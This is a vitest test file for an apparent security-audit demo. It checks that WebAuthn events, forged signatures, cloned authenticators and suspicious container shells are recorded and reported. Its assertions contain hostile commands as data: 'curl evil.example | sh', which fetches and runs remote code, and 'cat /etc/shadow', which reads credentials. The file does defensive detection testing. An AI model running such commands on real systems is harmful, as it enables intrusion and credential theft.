import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runDemo } from './run-demo.js';

const cwd = mkdtempSync(join(tmpdir(), 'at-demo-'));
afterAll(() => rmSync(cwd, { recursive: true, force: true }));

describe('npm run demo', () => {
  let result: { code: number; out: string };
  let db: Database.Database;
  beforeAll(async () => {
    result = await runDemo(cwd);
    db = new Database(join(cwd, '.audit-demo/audit.db'), { readonly: true });
  }, 120_000);
  afterAll(() => db?.close());

  it('runs every step and verifies both signed chains from the database', () => {
    expect(result.out).not.toContain('demo failed');
    expect(result.code).toBe(0);
    for (let i = 1; i <= 6; i++) expect(result.out).toContain(`[${i}/6]`);
    expect(result.out).toMatch(/2 chains \(2 clean\), 0 findings/);
  });

  it('stores every ceremony once, with Swarm placement from the log-driver tag, and rejects only the forged container event', () => {
    const counts = Object.fromEntries(
      (db.prepare('SELECT event_type, COUNT(*) AS n FROM security_audit_events GROUP BY event_type').all() as { event_type: string; n: number }[]).map(
        (r) => [r.event_type, r.n],
      ),
    );
    expect(counts).toEqual({
      AUDIT_CHAIN_OPEN: 2,
      AUDIT_CHAIN_CLOSE: 2,
      WEBAUTHN_REG_SUCCESS: 4,
      WEBAUTHN_REG_FAILURE: 1,
      WEBAUTHN_AUTH_SUCCESS: 9,
      WEBAUTHN_AUTH_FAILURE: 8,
      WEBAUTHN_COUNTER_REGRESSION: 1,
      CONTAINER_EXEC: 2,
      CONTAINER_PRIVILEGED: 1,
      CONTAINER_START: 1,
    });
    const unplaced = db.prepare(`SELECT COUNT(*) AS n FROM security_audit_events WHERE event_type LIKE 'WEBAUTHN_%' AND (swarm_node IS NULL OR swarm_task_id IS NULL)`).get() as { n: number };
    expect(unplaced.n).toBe(0);
    const rejects = db.prepare('SELECT reason, raw_payload FROM security_audit_rejects').all() as { reason: string; raw_payload: string }[];
    expect(rejects).toHaveLength(1);
    expect(rejects[0]!.reason).toMatch(/^CONTAINER_EVENT_UNTRUSTED_TAG: a CONTAINER_EXEC from docker-events arrived with tag "swarm\.audit\.node-1\.webauthn-api\.[0-9a-f]+"/);
    expect(rejects[0]!.raw_payload).toContain('curl evil.example | sh');
  });

  it('prints the reports: the forged-signature burst, the cloned authenticator and the shell', () => {
    const failures = result.out.slice(result.out.indexOf('WebAuthn registration and authentication failures of the last 90 days'), result.out.indexOf('Bursts of failures'));
    expect(failures.match(/192\.0\.2\.66 +WEBAUTHN_SIGNATURE_INVALID/g)).toHaveLength(6);
    expect(failures).toMatch(/^\S+ +WEBAUTHN_AUTH_FAILURE +\S+ +203\.0\.113\.200 +WEBAUTHN_ORIGIN_MISMATCH/m);
    // Registration failures and the rejected cloned-authenticator sign-in are failures too.
    expect(failures).toMatch(/^\S+ +WEBAUTHN_REG_FAILURE +\S+ +203\.0\.113\.200 +WEBAUTHN_ORIGIN_MISMATCH/m);
    expect(failures).toMatch(/^\S+ +WEBAUTHN_COUNTER_REGRESSION +\S+ +198\.51\.100\.99 +WEBAUTHN_COUNTER_REGRESSION: /m);
    expect(result.out).toMatch(/^192\.0\.2\.66 +7 +2 /m);
    expect(result.out).toMatch(/ 1 +2 +198\.51\.100\.99 +webauthn-api$/m);
    // Who opened which shell: Falco names the user it ran as; the Docker event stream cannot.
    expect(result.out).toMatch(/ node-1 +webauthn-api\.1 +[0-9a-f]{12} +registry\.example\.com\/webauthn-api:1\.0\.0 +root +bash -i +falco +0$/m);
    expect(result.out).toMatch(/ node-2 +payments\.1\.\w+ +[0-9a-f]{64} +registry\.example\.com\/payments:2\.3 +sh -c cat \/etc\/shadow +docker-events +0$/m);
    expect(result.out).toMatch(/^CONTAINER_EVENT_UNTRUSTED_TAG +forward:127\.0\.0\.1 +1 /m);
    expect(result.out).toContain(`The database is sqlite:${join(cwd, '.audit-demo/audit.db')}`);
  });
});
